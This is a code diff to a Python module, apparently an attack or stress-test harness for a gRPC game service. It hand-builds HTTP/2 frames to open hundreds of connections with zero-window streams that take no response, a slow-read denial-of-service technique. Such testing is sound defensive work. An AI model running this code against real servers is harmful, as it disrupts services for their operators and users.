@@ -21,6 +21,7 @@ UNREAD = 300
 AT_ONCE = 32
 MATCH_SERVICE = "croupier.v1.MatchService"
 SUGGEST = "/croupier.v1.HintService/SuggestAction"
+WATCH = "/grpc.health.v1.Health/Watch"
 _WINDOW = struct.pack(">HI", 4, 0)  # The setting by which a stream takes nothing at first.
 _SEARCH, _VIEW, _LEGAL_ACTIONS = 1, 2, 5
 
@@ -57,18 +58,8 @@ async def _follow(attacker: Attacker, responses: Any) -> None:
 
 async def unread_streams(attacker: Attacker) -> None:
     """Opens streams, each on a connection of its own, and takes nothing of what comes."""
-    opening = unread_watch(attacker.address, attacker.metadata)
-    await attacker.keep_connections(UNREAD, "streams", opening)
-
-
-def unread_watch(authority: str, metadata: Metadata = ()) -> bytes:
-    """What opens an HTTP/2 connection and watches health by it, without room for a response."""
-    headers = b"\x83\x86\x04" + text("/grpc.health.v1.Health/Watch") + b"\x01" + text(authority)
-    headers += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
-    for name, value in metadata:
-        headers += b"\x00" + text(name) + text(value)
-    opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, _WINDOW)
-    return opening + frame(1, 4, 1, headers) + frame(0, 1, 1, bytes(5))
+    said = UNREADING + request_on(1, WATCH, attacker.address, metadata=attacker.metadata)
+    await attacker.keep_connections(UNREAD, "streams", said)
 
 
 async def reflections(attacker: Attacker) -> None:
@@ -118,9 +109,28 @@ def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
 
 
 def text(text: str) -> bytes:
-    """A text of less than 127 bytes, as a header has it."""
-    data = text.encode()
-    return bytes([len(data)]) + data
+    """A text, as a header has it."""
+    data, length, more = text.encode(), b"", len(text) - 127
+    while more >= 0:
+        length += bytes([more & 127 | (128 if more > 127 else 0)])
+        more = (more >> 7) or -1
+    return bytes([min(len(data), 127)]) + length + data
+
+
+# What opens a connection of HTTP/2 whose streams have no room for a response.
+UNREADING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, _WINDOW)
+
+
+def request_on(
+    stream: int, path: str, authority: str, request: bytes = b"", metadata: Metadata = ()
+) -> bytes:
+    """A call of gRPC on a stream of HTTP/2, whose number is odd."""
+    headers = b"\x83\x86\x04" + text(path) + b"\x01" + text(authority)
+    headers += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
+    for name, value in metadata:
+        headers += b"\x00" + text(name) + text(value)
+    data = struct.pack(">BI", 0, len(request)) + request
+    return frame(1, 4, stream, headers) + frame(0, 1, stream, data)
 
 
 STREAM_ATTACKS = (
